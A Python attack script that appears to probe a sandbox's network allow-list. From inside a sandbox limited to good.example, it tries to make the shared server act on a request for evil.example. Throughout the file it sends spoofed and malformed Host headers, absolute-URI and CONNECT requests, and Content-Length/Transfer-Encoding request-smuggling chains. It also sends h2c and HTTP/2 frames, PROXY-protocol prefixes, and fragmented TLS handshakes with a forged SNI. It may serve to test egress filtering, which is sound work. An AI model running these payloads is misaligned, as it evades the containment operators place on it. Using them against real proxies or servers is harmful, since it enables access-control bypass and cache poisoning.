"""
Ways to say another name to a server than the one that was asked for.  Runs inside a sandbox that may speak with
good.example alone, whose server also serves evil.example; that server writes down what it is told.

	attack_hello.py ADDRESS [ask]		ask: for good.example, now and then
"""
import socket
import ssl
import sys
import time

AT, ASK = sys.argv[1], sys.argv[2:] == ["ask"]
GOOD, EVIL = b"good.example", b"evil.example"
END = b"\r\n\r\n"


def request(*lines, end=b"\r\n"):
    return end.join(lines) + end + end


GET = b"GET / HTTP/1.1"
REQUESTS = [
    request(GET, b"Host: evil.example"),
    request(GET, b"host:evil.example"),
    request(GET, b"HOST:   evil.example  "),
    request(GET, b"Host: EVIL.example."),
    request(GET, b"Host: evil.example:80"),
    request(b"GET / HTTP/1.0", b"Host: evil.example"),
    request(GET, b"Host: evil.example", end=b"\n"),
    b"\r\n\r\n" + request(GET, b"Host: evil.example"),
    request(GET, b"Host: good.example", b"Host: evil.example"),
    request(GET, b"Host: evil.example", b"Host: good.example"),
    request(GET, b"Host : evil.example"),
    request(GET, b"Host\t: evil.example"),
    request(GET, b"X: y", b" Host: evil.example", b"Host: good.example"),
    request(GET, b"Host:", b" evil.example"),
    request(GET, b"Host: good.example", b"\tevil.example"),
    request(GET, b"Host: good.example,evil.example"),
    request(GET, b"Host: good.example@evil.example"),
    request(GET, b"Host: good.example\0.evil.example"),
    request(b"GET http://evil.example/ HTTP/1.1", b"Host: good.example"),
    request(b"GET http://evil.example/ HTTP/1.1", b"Host: evil.example"),
    request(b"GET  /  HTTP/1.1", b"Host: evil.example"),
    request(b"GET\t/\tHTTP/1.1", b"Host: evil.example"),
    request(b"FOO / HTTP/1.1", b"Host: evil.example"),
    request(b"get / HTTP/1.1", b"Host: evil.example"),  # a method is any token, and some servers serve every one
    request(b"Get / HTTP/1.1", b"Host: evil.example"),
    request(b"X9.a!b / HTTP/1.1", b"Host: evil.example"),
    request(b"A" * 40 + b" / HTTP/1.1", b"Host: evil.example"),
    request(b"M-SEARCH / HTTP/1.1", b"Host: evil.example"),
    request(b"GET / http/1.1", b"Host: evil.example"),
    request(b"GET / HTTP/9.9", b"Host: evil.example"),
    request(b"CONNECT evil.example:80 HTTP/1.1", b"Host: good.example"),
    request(GET, *[b"X-%d: %s" % (i, b"y" * 500) for i in range(20)], b"Host: evil.example"),
    request(GET, b"X: " + b"y" * 60000, b"Host: evil.example"),
    request(GET, b"Content-Length: 0", b"X: \xff\xfe", b"Host: evil.example"),
    b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n" + request(GET, b"Host: evil.example"),
    b"\r\n\r\n\0\r\nQUIT\n\x20\0\0\0" + request(GET, b"Host: evil.example"),
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9 + request(GET, b"Host: evil.example"),
]


# Behind a request that may pass: on the same connection, at once or when it was answered, or hidden by how the first ends.
NEXT = request(GET, b"Host: evil.example")
POST = b"POST / HTTP/1.1", b"Host: good.example"
CHUNKED = request(*POST, b"Transfer-Encoding: chunked")
FRAME = b"\0\0\0\x04\0\0\0\0\0" + b"\0\0\x1b\x01\x05\0\0\0\x01" + b"\x82\x86\x84\x01\x0cevil.example"
SERIES = [
    request(GET, b"Host: good.example") + NEXT,
    request(GET, b"Host: good.example") + b"\r\n" + NEXT,
    request(GET, b"Host: good.example", b"Connection: keep-alive") * 3 + NEXT,
    request(b"HEAD / HTTP/1.1", b"Host: good.example") + NEXT,
    request(*POST, b"Content-Length: 5") + b"12345" + NEXT,
    request(*POST, b"Content-Length: 0") + NEXT,
    request(*POST, b"Content-Length: 0", b"Content-Length: 400") + NEXT,
    request(*POST, b"Content-Length: 0, 400") + NEXT,
    request(*POST, b"Content-Length: -1") + NEXT,
    request(*POST, b"Content-Length: 0x10") + NEXT,
    request(*POST, b"Content-Length: 18446744073709551617") + NEXT,
    request(*POST, b"Content-Length : 400") + NEXT,
    request(*POST, b"Content-Length: 400", b"Transfer-Encoding: chunked") + b"0\r\n\r\n" + NEXT,
    request(*POST, b"Transfer-Encoding: chunked", b"Content-Length: 400") + b"0\r\n\r\n" + NEXT,
    request(*POST, b"Content-Length: 400", b"Transfer-Encoding : chunked") + b"0\r\n\r\n" + NEXT,
    request(*POST, b"Content-Length: 400", b"Transfer-Encoding: xchunked") + NEXT,
    request(*POST, b"Content-Length: 400", b"Transfer-Encoding:\x0bchunked") + NEXT,
    request(*POST, b"Content-Length: 400", b"X: y\nTransfer-Encoding: chunked") + b"0\r\n\r\n" + NEXT,
    request(*POST, b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity") + b"0\r\n\r\n" + NEXT,
    CHUNKED + b"0\r\n\r\n" + NEXT,
    CHUNKED + b"3\r\nabc\r\n0\r\n\r\n" + NEXT,
    CHUNKED + b"3;x=y\r\nabc\r\n0\r\n\r\n" + NEXT,
    CHUNKED + b"0\r\nHost: evil.example\r\n\r\n",
    CHUNKED + b"-1\r\n" + NEXT,
    CHUNKED + b"0x40\r\n" + NEXT,
    CHUNKED + b"10000000000000000\r\n" + NEXT,
    CHUNKED + b"3\nabc\n0\n\n" + NEXT,
    request(GET, b"Host: good.example", b"Expect: 100-continue") + NEXT,
    request(GET, b"Host: good.example", b"Upgrade: websocket", b"Connection: Upgrade") + NEXT,
    request(GET, b"Host: good.example", b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: AAMAAABk") + FRAME,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + FRAME,
    request(GET, b"Host: good.example") + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + FRAME,
    request(GET, b"Host: good.example") + b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n" + NEXT,
    request(b"GET / HTTP/1.0", b"Host: good.example") + NEXT,
]


asked = 0.0


def connect(port):
    """Inside, the address is good.example's for a minute after it was asked for."""
    global asked
    if ASK and time.monotonic() - asked > 15:
        socket.getaddrinfo("good.example", 80)
        asked = time.monotonic()
    return socket.create_connection((AT, port), 30)


def follow(data, where):
    """In two parts, so that the second comes when the first was answered."""
    s = connect(7008)
    s.settimeout(5)
    try:
        for part in (data[:where], data[where:]):
            if part:
                s.sendall(part)
                s.recv(4096)
    except OSError:
        pass
    s.close()


def say(data, step=0, wait=0.0):
    s = connect(80)
    try:
        if step:
            for i in range(0, len(data), step):
                s.sendall(data[i : i + step])
                time.sleep(wait)
        else:
            s.sendall(data)
        s.settimeout(15)
        while s.recv(4096):
            pass
    except OSError:
        pass
    s.close()


def tls(name, before=b"", step=0):
    """A handshake by hand, so that its hello can be sent in pieces, and behind something else."""
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    out, back = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(back, out, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = out.read()
    s = connect(443)
    try:
        s.sendall(before)
        if step:  # in several records, too
            body = hello[5:]
            for i in range(0, len(body), step):
                piece = body[i : i + step]
                s.sendall(b"\x16\x03\x01" + len(piece).to_bytes(2, "big") + piece)
        else:
            s.sendall(hello)
        s.settimeout(15)
        s.recv(4096)
    except OSError:
        pass
    s.close()


for r in REQUESTS:
    say(r)
for r in SERIES:
    follow(r, len(r))
    follow(r, r.find(END) + 4)
say(REQUESTS[0], 1, 0.01)
say(REQUESTS[0], 7)
tls("evil.example")
tls("EVIL.example")
tls("evil.example", step=40)
tls("evil.example", step=1)
tls("evil.example", step=300)
tls("evil.example", b"\x15\x03\x01\x00\x02\x01\x00")  # a warning, which servers pass over
tls("evil.example", b"\x16\x03\x01\x00\x00")
tls("evil.example", b"\x14\x03\x01\x00\x01\x01")
tls("evil.example", b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n")
print("the end")
